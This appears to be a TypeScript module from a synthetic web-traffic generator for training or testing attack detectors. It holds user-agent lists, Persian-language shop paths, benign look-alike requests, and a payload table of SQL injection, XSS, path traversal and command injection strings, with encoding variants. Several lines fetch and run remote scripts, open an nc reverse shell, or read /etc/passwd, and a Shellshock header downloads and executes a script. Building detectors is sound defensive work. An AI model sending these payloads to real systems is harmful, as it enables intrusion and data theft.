// What generated web traffic is made of: real user-agent strings (browsers, apps, crawlers, attack
// tools), the shop's path catalogue (with percent-encoded Persian slugs), referrers, attack payloads
// in their real-world encodings, and the benign look-alikes that trip naive detectors.
import type { Rng } from './rng';
import { Weighted } from './rng';

export const SITE = 'https://www.example-shop.com';

export const BROWSER_UAS: ReadonlyArray<readonly [string, number]> = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36', 14],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36', 10],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36', 5],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36', 6],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:122.0) Gecko/20100101 Firefox/122.0', 5],
  ['Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0', 2],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15', 5],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91', 5],
  ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36', 2],
  ['Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0', 1],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1', 12],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1', 5],
  ['Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36', 14],
  ['Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36', 4],
  ['Mozilla/5.0 (Linux; Android 6.0; ALE-L21 Build/HuaweiALE-L21) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.158 Mobile Safari/537.36', 2],
  ['Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1', 2],
  ['Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)', 3],
  ['Mozilla/5.0 (Linux; Android 12; SM-A515F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.193 Mobile Safari/537.36 Instagram 312.1.0.34.111 Android', 2],
  ['Mozilla/5.0 (Windows NT 6.2; Win64; x64; rv:16.0)Gecko/16.0 Firefox/16.0', 1],
];
export const BROWSER_UA = new Weighted(BROWSER_UAS);

export const GOOGLEBOT_UAS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.129 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Googlebot-Image/1.0',
] as const;
export const BINGBOT_UA = 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)';
/** Other crawlers that show up in the background at low volume. */
export const MINOR_BOT_UAS = [
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
  'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)',
  'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
] as const;

export const HEALTH_UAS = ['kube-probe/1.29', 'ELB-HealthChecker/2.0'] as const;

export type ToolName = 'sqlmap' | 'nikto' | 'nmap' | 'masscan' | 'zgrab' | 'gobuster' | 'dirbuster' | 'wpscan' | 'nuclei';

export function toolUserAgent(tool: ToolName, rng: Rng): string {
  switch (tool) {
    case 'sqlmap':
      return rng.pick(['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap/1.6.12#stable (https://sqlmap.org)']);
    case 'nikto':
      return `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(rng.int(1, 9999)).padStart(6, '0')})`;
    case 'nmap':
      return 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
    case 'masscan':
      return 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)';
    case 'zgrab':
      return 'Mozilla/5.0 zgrab/0.x';
    case 'gobuster':
      return 'gobuster/3.6';
    case 'dirbuster':
      return 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)';
    case 'wpscan':
      return 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)';
    case 'nuclei':
      return 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)';
  }
}

export const SCRIPT_UAS = ['python-requests/2.31.0', 'Go-http-client/1.1', 'curl/8.4.0', 'Python-urllib/3.10', 'okhttp/4.12.0'] as const;

const PERSIAN_WORDS = [
  'گوشی', 'موبایل', 'سامسونگ', 'یخچال', 'ماشین', 'لباسشویی', 'تلویزیون', 'لپ', 'تاپ', 'هدفون', 'ساعت', 'هوشمند',
  'جاروبرقی', 'اتو', 'بخار', 'مایکروویو', 'سشوار', 'خانگی', 'پرنسلی', 'مدل', 'کولر', 'گازی', 'اسپیکر', 'بلوتوث',
];
const LATIN_WORDS = ['PR257AT', 'X200', 'A52s', 'Galaxy', 'LED', '4K', 'Pro', 'Max', 'Lite', 'Plus'];

/** Percent-encoded Persian product slugs, as browsers send them. */
export const PRODUCT_SLUGS: readonly string[] = (() => {
  const out: string[] = [];
  for (let i = 0; i < 240; i++) {
    const a = PERSIAN_WORDS[(i * 7) % PERSIAN_WORDS.length] as string;
    const b = PERSIAN_WORDS[(i * 13 + 5) % PERSIAN_WORDS.length] as string;
    const c = PERSIAN_WORDS[(i * 3 + 11) % PERSIAN_WORDS.length] as string;
    const tail = i % 3 === 0 ? `-${LATIN_WORDS[i % LATIN_WORDS.length] as string}` : '';
    out.push(encodeURIComponent(`${a}-${b}-${c}`) + tail);
  }
  return out;
})();

export const SEARCH_TERMS: readonly string[] = [
  ...['گوشی سامسونگ', 'یخچال ساید', 'هدفون بی سیم', 'لپ تاپ ایسوس', 'ساعت هوشمند'].map((t) => encodeURIComponent(t)),
  'iphone+15', 'galaxy+s23', 'air+fryer', 'usb-c+cable', 'gaming+chair', 'laptop+stand', 'dyson', 'coffee+maker',
  'kettle', 'headphones+noise+cancelling', 'smart+watch', 'tv+55+inch', 'xiaomi', 'robot+vacuum',
];

/** Legitimate requests whose text looks attack-ish (benign look-alikes; labelled 0). */
export const LOOKALIKE_PATHS: readonly string[] = [
  "/search?q=O'Reilly",
  '/search?q=O%27Reilly+programming+books',
  '/product/select-chair',
  '/product/select-chair?color=black',
  '/blog/script-writing-tips',
  '/blog/union-station-coffee-guide',
  '/search?q=drop+table+legs',
  '/search?q=1%3D1+scale+model',
  '/blog/how-to-update-your-etc-passwd-safely',
  '/search?q=cat+%26+dog+beds',
  '/search?q=%3Cheart%3E+necklace',
  '/help/exec-chair-assembly',
];

export const STATIC_ASSETS: readonly string[] = (() => {
  const hashes = ['3f9a1c', 'b71e02', '9d44aa', 'e0c5f1', '51ab8e'];
  const out: string[] = [];
  for (const h of hashes) out.push(`/static/js/main.${h}.js`, `/static/js/vendor.${h}.chunk.js`, `/static/css/style.${h}.css`);
  out.push('/static/fonts/IRANSans.woff2', '/static/fonts/Vazir-Bold.woff2', '/favicon.ico', '/static/images/logo.svg', '/static/images/sprite.png');
  return out;
})();

/** Words for directory brute forcing and 404 sweeps (missing paths). */
export const DISCOVERY_WORDS: readonly string[] = [
  'admin', 'administrator', 'backup', 'backups', 'old', 'new', 'test', 'tmp', 'temp', 'dev', 'staging', 'config', 'conf',
  'db', 'database', 'sql', 'dump', 'files', 'uploads', 'upload', 'private', 'secret', 'logs', 'log', 'debug', 'console',
  'phpmyadmin', 'pma', 'mysql', 'webadmin', 'manager', 'cpanel', 'panel', 'portal', 'api-docs', 'swagger', 'graphql',
  'server-status', 'server-info', 'cgi-bin', 'scripts', 'include', 'inc', 'lib', 'vendor', 'node_modules', 'web.config',
  'phpinfo', 'info', 'install', 'setup', 'wp-admin', 'wp-content', 'wp-includes', 'xmlrpc', 'joomla', 'drupal',
  'jenkins', 'solr', 'actuator', 'env', 'git', 'svn', 'hg', 'DS_Store', 'htaccess', 'htpasswd', 'id_rsa', 'credentials',
  'users', 'accounts', 'export', 'exports', 'reports', 'archive', 'archives', 'site', 'www', 'html', 'public', 'data',
];
export const DISCOVERY_EXTS: readonly string[] = ['', '/', '.php', '.bak', '.old', '.zip', '.tar.gz', '.sql', '.txt', '.asp', '.aspx', '.jsp', '~', '.swp'];

export type AttackCategory = 'sqli' | 'xss' | 'traversal' | 'cmdi';

/** Raw payloads; encode() below turns them into what actually arrives on the wire. */
const PAYLOADS: Record<AttackCategory, readonly string[]> = {
  sqli: [
    "' OR '1'='1", "1' OR 1=1-- -", "1 UNION SELECT username,password FROM users--", "' UnIoN SeLeCt null,null,version()--",
    "1 AND SLEEP(5)", "'; DROP TABLE users;--", "admin'--", "1) OR (1=1", "1' AND extractvalue(1,concat(0x7e,database()))--",
    "1 ORDER BY 10--", "' or benchmark(10000000,md5(1))#", "1' WAITFOR DELAY '0:0:5'--", "-1 union all select 1,2,group_concat(table_name) from information_schema.tables--",
  ],
  xss: [
    '<script>alert(1)</script>', '"><svg/onload=alert(document.domain)>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)',
    '<ScRiPt>prompt(1)</sCrIpT>', "'><iframe src=javascript:alert(1)>", '<body onload=alert(1)>', '<details open ontoggle=confirm(1)>',
  ],
  traversal: [
    '../../../../etc/passwd', '../../../../../../etc/shadow', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd',
    '../../../../proc/self/environ', '/../../../../boot.ini', '../../../WEB-INF/web.xml',
  ],
  cmdi: [
    ';cat /etc/passwd', '|id', '$(whoami)', '`uname -a`', ';wget http://{ip}/x.sh -O- | sh', '&& ping -c 3 {ip}',
    '| nc {ip} 4444 -e /bin/sh', ';curl -s http://{ip}/b | bash', '${IFS}cat${IFS}/etc/passwd',
  ],
};

/** Where payloads are injected: a parameter of a real endpoint. */
const INJECTION_POINTS: Record<AttackCategory, readonly string[]> = {
  sqli: ['/product/view?id=', '/search?q=', '/api/v1/products?category=', '/login?user=', '/filter?brand='],
  xss: ['/search?q=', '/contact?name=', '/blog/comment?text=', '/api/v1/feedback?msg='],
  traversal: ['/download?file=', '/static/', '/image?path=', '/api/v1/export?template='],
  cmdi: ['/api/v1/ping?host=', '/cgi-bin/status?cmd=', '/tools/lookup?domain=', '/api/v1/convert?file=report.pdf'],
};

const pctAll = (s: string): string => s.replace(/[^A-Za-z0-9]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`);

/** Renders a payload the way real tools and people send it: the encodings detectors must undo. */
export function encodePayload(raw: string, rng: Rng): string {
  const style = rng.int(0, 5);
  switch (style) {
    case 0: // browser-style: spaces as %20, specials encoded
      return encodeURIComponent(raw).replace(/'/g, '%27').replace(/\(/g, '%28').replace(/\)/g, '%29');
    case 1: // form-style: + for spaces, quotes as %27
      return raw.replace(/ /g, '+').replace(/'/g, '%27').replace(/"/g, '%22').replace(/#/g, '%23').replace(/&/g, '%26');
    case 2: // double encoding: %25 in front of each escape
      return encodeURIComponent(raw).replace(/'/g, '%27').replace(/%/g, '%25');
    case 3: // raw except spaces (many scanners do this; quotes appear as \" in the log)
      return raw.replace(/ /g, '%20').replace(/#/g, '%23');
    case 4: // everything percent-encoded, including letters left alone, slashes as %2f lower-case
      return pctAll(raw).replace(/%2F/g, '%2f');
    default: // mixed: only the dangerous characters encoded
      return raw.replace(/ /g, '+').replace(/</g, '%3C').replace(/>/g, '%3E').replace(/'/g, '%27').replace(/\//g, rng.chance(0.5) ? '%2f' : '/');
  }
}

export function attackRequest(cat: AttackCategory, rng: Rng, callbackIp: string): string {
  const raw = rng.pick(PAYLOADS[cat]).replace('{ip}', callbackIp);
  return rng.pick(INJECTION_POINTS[cat]) + encodePayload(raw, rng);
}

export const SHELLSHOCK_UA = '() { :; }; /bin/bash -c "wget http://{ip}/s.sh -O /tmp/s.sh; sh /tmp/s.sh"';
